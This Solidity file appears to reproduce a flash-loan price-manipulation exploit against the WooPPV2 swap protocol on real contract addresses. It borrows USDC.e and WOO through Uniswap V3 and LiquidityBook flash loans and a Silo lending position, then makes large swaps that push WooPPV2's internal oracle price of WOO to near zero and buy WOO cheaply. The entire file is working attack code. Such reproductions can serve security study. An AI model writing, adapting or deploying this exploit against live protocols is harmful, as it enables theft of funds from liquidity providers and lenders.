// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Erc20} from "../Erc20.sol";
import {UniswapV3Pool} from "../UniswapV3Pool.sol";

interface WooPPV2 {
    function swap(address from, address to, uint256 amount, uint256 min, address recipient, address rebate)
        external
        returns (uint256);
}

interface Silo {
    function deposit(address asset, uint256 amount, bool collateralOnly) external;
    function liquidity(address asset) external view returns (uint256);
    function borrow(address asset, uint256 amount) external;
    function repay(address asset, uint256 amount) external;
    function withdraw(address asset, uint256 amount, bool collateralOnly) external;
}

interface LiquidityBookPair {
    function flashLoan(address receiver, bytes32 amounts, bytes calldata data) external;
}

/// Buys WOO for nearly nothing: one large sale makes WooPPV2 write a price of almost zero into its own oracle.
contract Attack {
    WooPPV2 constant WOO_PP = WooPPV2(0xeFF23B4bE1091b53205E35f3AfCD9C7182bf3062);
    Silo constant SILO = Silo(0x5C2B80214c1961dB06f69DD4128BcfFc6423d44F);
    LiquidityBookPair constant WOO_WETH = LiquidityBookPair(0xB87495219C432fc85161e4283DfF131692A528BD);
    UniswapV3Pool constant WETH_USDCE = UniswapV3Pool(0xC31E54c7a869B9FcBEcc14363CF510d1c41fa443);
    Erc20 constant WOO = Erc20(0xcAFcD85D8ca7Ad1e1C6F82F651fA15E33AEfD07b);
    Erc20 constant USDCE = Erc20(0xFF970A61A04b1cA14834A43f5dE4533eBDDB5CC8);
    Erc20 constant WETH = Erc20(0x82aF49447D8a07e3bd95BD0d56f35241523fBab1);

    uint256 private wooLoan;

    function attack() external {
        WOO.approve(address(SILO), type(uint256).max);
        USDCE.approve(address(SILO), type(uint256).max);
        uint256 usdceLoan = USDCE.balanceOf(address(WETH_USDCE)) - 10_000e6;
        WETH_USDCE.flash(address(this), 0, usdceLoan, abi.encode(usdceLoan));
    }

    function uniswapV3FlashCallback(uint256, uint256 usdceFee, bytes calldata data) external {
        wooLoan = WOO.balanceOf(address(WOO_WETH)) - 100;
        WOO_WETH.flashLoan(address(this), bytes32(wooLoan), "");
        USDCE.transfer(address(WETH_USDCE), abi.decode(data, (uint256)) + usdceFee);
    }

    function LBFlashLoanCallback(address, address, address, bytes32, bytes32 fees, bytes calldata)
        external
        returns (bytes32)
    {
        SILO.deposit(address(USDCE), 7_000_000e6, true);
        SILO.borrow(address(WOO), SILO.liquidity(address(WOO)));

        sell(USDCE, WETH, 2_000_000e6);
        sell(USDCE, WOO, 100_000e6);
        sell(WOO, USDCE, 7_856_868.8 ether);
        sell(USDCE, WOO, 926_342);

        SILO.repay(address(WOO), type(uint256).max);
        SILO.withdraw(address(USDCE), type(uint256).max, true);
        WOO.transfer(address(WOO_WETH), wooLoan + uint128(uint256(fees)) + 10_000);
        return keccak256("LBPair.onFlashLoan");
    }

    function sell(Erc20 from, Erc20 to, uint256 amount) private {
        from.transfer(address(WOO_PP), amount);
        WOO_PP.swap(address(from), address(to), amount, 0, address(this), address(this));
    }
}
